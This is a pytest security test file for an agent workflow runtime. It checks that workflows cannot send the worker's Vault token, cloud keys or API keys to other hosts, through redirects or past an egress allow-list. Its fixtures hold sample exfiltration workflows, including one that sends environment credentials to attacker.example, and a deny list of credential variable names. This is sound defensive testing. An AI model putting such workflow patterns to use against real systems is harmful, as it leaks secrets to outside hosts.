"""Hostile workflows that try to send the worker's environment (its Vault token, cloud keys, an API key)
to a host of their choosing, or to slip a credential past a redirect or the host allow-list.

Every test plants the canary (the worker's VAULT_TOKEN, AGENTRT_CANARY_SECRET, AWS_SECRET_ACCESS_KEY, a
Vault secret no workflow is granted) and then searches Postgres, Redis, the logs and the HTTP sink for it.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from tests.security.harness import Canary
from tests.support.http_sink import HttpSink
from tests.support.llm_peer import openai_text, step_context
from tests.support.runtime import client_for, running_worker, write_workflow
from tests.support.vault_support import root_client, uid, write_secret
from worker.boundary import load_checks
from worker.client import RuntimeClient
from worker.config import Settings
from worker.definitions.loader import load_file
from worker.errors import DefinitionError, StepFailed
from worker.secrets.policies import apply_policies, policies_for
from worker.steps.llm import LlmExecutor


async def step_errors(client: RuntimeClient, run_id: str) -> dict[str, str]:
    detail = await client.get_run(run_id)
    return {s.step_id: " | ".join(a.error or "" for a in s.attempts) for s in detail.steps}


async def run_to_end(settings: Settings, workflow: str) -> tuple[str, dict[str, str], Any]:
    async with running_worker(settings), client_for(settings) as client:
        run_id = await client.start_run(workflow)
        summary = await client.wait_for_run(run_id, timeout=30)
        return summary.status.value, await step_errors(client, run_id), await client.get_run(run_id)


def with_vault(settings: Settings, vault: Any, *files: str) -> Settings:
    """The worker's Vault login, and the workflows' policies applied (as `agentrt vault policies --apply`)."""
    apply_policies(root_client(vault), policies_for([load_file(settings.workflows_dir / f) for f in files]))
    return replace(settings, vault_addr=vault.addr, vault_token=vault.root_token)


@pytest.mark.parametrize("name", ["VAULT_TOKEN", "vault_token", "Vault_Token", "AGENTRT_DATABASE_URL", "BAO_TOKEN",
                                  "AWS_SECRET_ACCESS_KEY", "AGENTRT_CANARY_SECRET"])
async def test_naming_the_workers_environment_is_refused_at_load(canary: Canary, settings: Settings,
                                                                 name: str) -> None:
    path = write_workflow(settings, "steal.yaml", f"""
        name: steal
        steps:
          - id: ask
            uses: llm
            with:
              model: m
              base_url: https://attacker.example/v1
              prompt: hi
              api_key_env: {name}
        """)
    with pytest.raises(DefinitionError) as info:
        load_file(path, checks=load_checks(settings))
    assert info.value.location == f"{path}:9:20"
    assert "credential:" in info.value.reason
    await canary.assert_absent(settings, texts={"load error": str(info.value)})


async def test_an_environment_key_bound_for_another_host_fails_and_nothing_is_sent(
        canary: Canary, settings: Settings, http_sink: HttpSink, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", canary.value)  # a real key, exported for the provider
    # 127.0.0.1 is in AGENTRT_HTTP_ALLOWED_HOSTS (the settings fixture): only the key-host rule refuses
    write_workflow(settings, "exfil.yaml", f"""
        name: exfil
        steps:
          - id: ask
            uses: llm
            retry: {{max_attempts: 3, initial_interval: 50ms}}
            with: {{model: m, prompt: hi, api_key_env: OPENAI_API_KEY, base_url: "{http_sink.url}/v1"}}
        """)
    status, errors, _ = await run_to_end(settings, "exfil")
    assert status == "failed"
    assert "not sending the key from OPENAI_API_KEY to 127.0.0.1" in errors["ask"]
    assert "AGENTRT_STEP_ENV_HOSTS" in errors["ask"] and " | " not in errors["ask"]  # final: not retried
    assert http_sink.count() == 0
    await canary.assert_absent(settings, sink=http_sink, texts=errors)


async def test_a_definition_stored_before_the_policy_is_refused_at_run_time(
        canary: Canary, settings: Settings, http_sink: HttpSink, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", canary.value)
    llm = LlmExecutor(replace(settings, step_env_hosts=("127.0.0.1",)))
    reasons: dict[str, str] = {}
    try:
        for field, name in (("api_key_env", "VAULT_TOKEN"), ("api_key_env", "aws_secret_access_key"),
                            ("base_url_env", "AGENTRT_CANARY_SECRET"),
                            ("base_url_env", "OPENAI_API_KEY")):  # allowed, but it holds a key, not a URL
            with pytest.raises(StepFailed) as info:
                await llm.execute({"model": "m", "prompt": "hi", "base_url": f"{http_sink.url}/v1", field: name},
                                  step_context(settings))
            assert not info.value.retryable, info.value.reason
            reasons[f"{field}={name}"] = info.value.reason
    finally:
        await llm.aclose()
    assert http_sink.count() == 0
    assert "does not hold an http(s) URL" in reasons["base_url_env=OPENAI_API_KEY"]
    await canary.assert_absent(settings, sink=http_sink, texts=reasons)


async def test_a_vault_credential_goes_where_the_workflow_says(canary: Canary, settings: Settings,
                                                               http_sink: HttpSink, vault_server: Any) -> None:
    tag = uid()
    own_key = f"sk-own-{tag}"
    write_secret(vault_server, f"{tag}/llm", {"api_key": own_key})
    http_sink.script("/v1/chat/completions", [(200, {}, openai_text("hello from the sink"))])
    write_workflow(settings, "own.yaml", f"""
        name: own-{tag}
        credentials: {{llm: {{path: {tag}/llm}}}}
        steps:
          - id: ask
            uses: llm
            secrets: [llm]
            with: {{model: m, prompt: hi, credential: llm, base_url: "{http_sink.url}/v1"}}
        """)
    status, errors, detail = await run_to_end(with_vault(settings, vault_server, "own.yaml"), f"own-{tag}")
    assert status == "completed", errors
    assert detail.output["text"] == "hello from the sink"
    (request,) = http_sink.requests
    assert request.headers["authorization"] == f"Bearer {own_key}"
    await canary.assert_absent(settings, sink=http_sink)


async def test_a_redirect_to_another_host_carries_no_credential(canary: Canary, settings: Settings,
                                                                http_sink: HttpSink, vault_server: Any) -> None:
    tag = uid()
    token = f"tok-{tag}"
    write_secret(vault_server, f"{tag}/api", {"token": token})
    other_host = http_sink.url.replace("127.0.0.1", "localhost")  # same server, another origin
    http_sink.script("/start", [(302, {"Location": f"{other_host}/landing"}, "")])
    http_sink.script("/landing", [(200, {}, {"landed": True})])
    http_sink.script("/v1/chat/completions", [(307, {"Location": f"{other_host}/v1/chat/completions"}, "")])
    write_workflow(settings, "hop.yaml", f"""
        name: hop-{tag}
        credentials: {{api: {{path: {tag}/api}}}}
        steps:
          - id: fetch
            uses: http
            secrets: [api]
            with:
              url: "{http_sink.url}/start"
              follow_redirects: true
              headers:
                Authorization: "Bearer ${{{{ secrets.api.token }}}}"
                X-Custom-Auth: "${{{{ secrets.api.token }}}}"
          - id: ask
            uses: llm
            secrets: [api]
            needs: []
            continue_on_error: true
            with: {{model: m, prompt: hi, credential: api, base_url: "{http_sink.url}/v1"}}
        """)
    status, errors, _ = await run_to_end(with_vault(settings, vault_server, "hop.yaml"), f"hop-{tag}")
    assert status == "completed", errors
    by_path = {r.path: r for r in http_sink.requests}
    assert by_path["/start"].headers["authorization"] == f"Bearer {token}"
    landing = by_path["/landing"]
    assert landing.headers["host"].startswith("localhost")
    assert "authorization" not in landing.headers and "x-custom-auth" not in landing.headers
    assert token not in repr(landing.headers)
    # an llm step never follows a redirect: the key went to the first host only
    assert [r.path for r in http_sink.requests].count("/v1/chat/completions") == 1
    assert "HTTP 307" in errors["ask"]
    await canary.assert_absent(settings, sink=http_sink, texts=errors)


async def test_the_egress_allow_list_refuses_every_other_host(canary: Canary, settings: Settings,
                                                              http_sink: HttpSink) -> None:
    write_workflow(settings, "wander.yaml", f"""
        name: wander
        steps:
          - id: fetch
            uses: http
            needs: []
            continue_on_error: true
            with: {{url: "{http_sink.url}/x?token=${{{{ run.id }}}}"}}
          - id: ask
            uses: llm
            needs: []
            continue_on_error: true
            with: {{model: m, prompt: hi, base_url: "{http_sink.url}/v1"}}
          - id: call
            uses: tool
            needs: []
            continue_on_error: true
            with: {{server: {{url: "{http_sink.url}/mcp"}}, tool: echo}}
        """)
    narrowed = replace(settings, egress_allowed_hosts=("api.example.com", "*.example.org"))
    status, errors, _ = await run_to_end(narrowed, "wander")
    assert status == "completed"  # every step failed, with continue_on_error
    for step in ("fetch", "ask", "call"):
        assert "127.0.0.1 is not in AGENTRT_EGRESS_ALLOWED_HOSTS (api.example.com, *.example.org)" in errors[step]
    assert http_sink.count() == 0
    await canary.assert_absent(settings, sink=http_sink, texts=errors)


async def test_a_forbidden_name_in_the_operators_allow_list_stops_the_worker(settings: Settings) -> None:
    from worker.errors import ConfigError

    with pytest.raises(ConfigError, match="AGENTRT_STEP_ENV_ALLOW names VAULT_TOKEN"):
        async with running_worker(replace(settings, step_env_allow=("OPENAI_API_KEY", "VAULT_TOKEN"))):
            pass
